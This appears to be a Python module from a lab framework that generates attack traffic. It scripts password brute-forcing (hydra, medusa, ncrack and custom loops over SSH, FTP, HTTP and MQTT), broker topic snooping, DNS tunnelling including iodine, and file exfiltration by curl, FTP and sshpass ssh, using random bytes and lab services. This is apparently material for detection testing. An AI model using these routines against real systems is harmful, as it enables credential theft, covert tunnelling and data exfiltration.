"""Guessing, tunnels and theft, by known tools and by a few lines of our own."""

from __future__ import annotations

from base64 import b32encode
from collections.abc import Callable
from contextlib import suppress

from evenflow.lab._steps import fetch, ftp_login, http_connection, mqtt_connect, ssh
from evenflow.lab.doing import Doing
from evenflow.lab.words import DOMAIN, GUESSES, TOPICS, USERS


def _words(d: Doing, most: float) -> list[str]:
    """Return guesses; at times, the right one is among them."""
    found = d.rng.sample(GUESSES, min(len(GUESSES), d.times(8, most)))
    if d.rng.random() < 0.3:
        found.insert(d.rng.randrange(len(found)), d.rng.choice(list(USERS.values())))
    d.note(guesses=len(found))
    return found


KINDS = {
    "ssh": ("ssh", "dropbear"), "ftp": ("ftp",), "http": ("nginx", "lighttpd"),
}  # fmt: skip


def guess_by(tool: str, kind: str) -> Callable[[Doing], bool]:
    """Return guessing by hydra, medusa or ncrack."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        words = d.folder / "words"
        words.write_text("\n".join(_words(d, 60)) + "\n")
        user = d.rng.choice(list(USERS))
        at_once = d.rng.choice([1, 2, 4, 8])
        d.note(at_once=at_once, user=user)
        commands = {
            "hydra": ["hydra", "-I", "-l", user, "-P", words, "-t", at_once, "-s", port,
                      "-W", d.rng.choice([1, 2, 3]), ip,
                      *({"http": ["http-get", "/private/"]}.get(kind, [kind]))],
            "medusa": ["medusa", "-h", ip, "-u", user, "-P", words, "-t", at_once,
                       "-n", port, "-M", kind,
                       *(["-m", "DIR:/private/"] if kind == "http" else [])],
            "ncrack": ["ncrack", "--user", user, "-P", words, "-g",
                       f"CL={at_once},at={d.rng.randint(1, 4)}", f"{kind}://{ip}:{port}"],
        }  # fmt: skip
        d.run(*commands[tool], seconds=30)
        said = d.outputs[-1]
        return any(f in said for f in ("password: ", "ACCOUNT FOUND", "Discovered"))

    return guess


def own_guess(kind: str) -> Callable[[Doing], bool]:
    """Return guessing by a loop of our own, slow enough for any limit at times."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        user = d.rng.choice(list(USERS))
        rate = d.rate(0.15, 8 if kind == "ssh" else 40)
        found = False
        for word in _words(d, 90):
            if kind == "ssh":
                found = ssh(d, user, word, "true", ip, port) == 0
            elif kind == "ftp":
                found = bool(ftp_login(d, ip, port, user, word))
            else:
                w = http_connection(d, ip, port)
                found = (
                    fetch(d, w, "private/", keep=False, user=f"{user}:{word}") == 200
                )
            d.think(1 / rate)
            if found or d.is_over():
                break
        return found

    return guess


def mqtt_guess(d: Doing) -> bool:
    """Guess the password of a broker."""
    ip, port = d.service("broker")
    user, rate = d.rng.choice(list(USERS)), d.rate(0.3, 40)
    for word in _words(d, 90):
        if s := d.connect(ip, port):
            with s, suppress(OSError):
                s.sendall(mqtt_connect("sensor", user, word))
                if s.recv(4)[3:4] == b"\0":
                    return True
        d.think(1 / rate)
        if d.is_over():
            break
    return False


def mqtt_listen(d: Doing) -> bool:
    """Read along all that a broker passes on, again and again."""
    ip, port = d.service("mqtt")
    for _ in range(d.times(2, 8)):
        topic = d.rng.choice(["#", "$SYS/#", *TOPICS])
        d.run("mosquitto_sub", "-h", ip, "-p", port, "-t", topic, "-W",
              d.rng.randint(2, 15))  # fmt: skip
    return bool("".join(d.outputs).strip())


def own_tunnel(d: Doing) -> bool:
    """Carry data out in the names that are asked for."""
    rate = d.rate(0.5, 60)
    length = d.rng.choice([20, 35, 55])
    kind = d.rng.choice([1, 16, 28])
    d.note(length=length, kind=kind)
    found = 0
    for i in range(d.times(40, 400)):
        label = b32encode(d.rng.randbytes(length)).decode().strip("=").lower()
        name = ".".join([label[:60], *([label[60:]] if label[60:] else [])])
        found += d.look_up(f"{name}.{i:x}.x.{DOMAIN}", kind)
        d.think(1 / rate)
        if d.is_over():
            break
    return found > 0


def iodine(d: Doing) -> bool:
    """Tunnel a connection through name look-ups by iodine."""
    ip, _ = d.service("tunnel")
    inner = f"ping -q -c {d.rng.randint(3, 20)} -s {d.rng.choice([56, 400, 900])} "
    d.run(
        "sh", "-c",
        f"iodine -f -P lab -r -T {d.rng.choice(['NULL', 'TXT', 'CNAME'])} "
        f"-d tun9 {ip} t.{DOMAIN} & p=$!; sleep 5; {inner} 172.31.255.1; r=$?; "
        "kill $p; wait $p; exit $r", seconds=50,
    )  # fmt: skip
    return "bytes from" in d.outputs[-1] or " 0% packet loss" in d.outputs[-1]


def carry_out(how: str) -> Callable[[Doing], bool]:
    """Return the theft of files: by HTTP, FTP or SSH, at once or in pieces."""

    def carry(d: Doing) -> bool:
        pieces = d.times(1, 40)
        path = d.folder / "loot"
        path.write_bytes(d.rng.randbytes(int(d.between(3e4, 3e6) / pieces) + 500))
        ip, port = d.service({"http": "api", "ftp": "ftp", "ssh": "ssh"}[how])
        wait = d.between(0.05, 3)
        d.note(pieces=pieces, wait=round(wait, 3))
        user, word = d.rng.choice(list(USERS.items()))
        done = 0
        for i in range(pieces):
            if how == "http":
                done += d.run("curl", "-s", "-o", "/dev/null", "--data-binary",
                              f"@{path}", f"http://{ip}:{port}/c/{i}") == 0  # fmt: skip
            elif how == "ftp":
                done += d.run("curl", "-s", "-T", path, "-u", f"{user}:{word}",
                              f"ftp://{ip}:{port}/loot{i % 9}") == 0  # fmt: skip
            else:
                d.run("sh", "-c", f"sshpass -p '{word}' ssh -p {port} -F /dev/null "
                      "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                      f"{user}@{ip} 'cat > /dev/null' < {path}")  # fmt: skip
                done += 1
            d.think(wait)
            if d.is_over():
                break
        return done > 0

    return carry
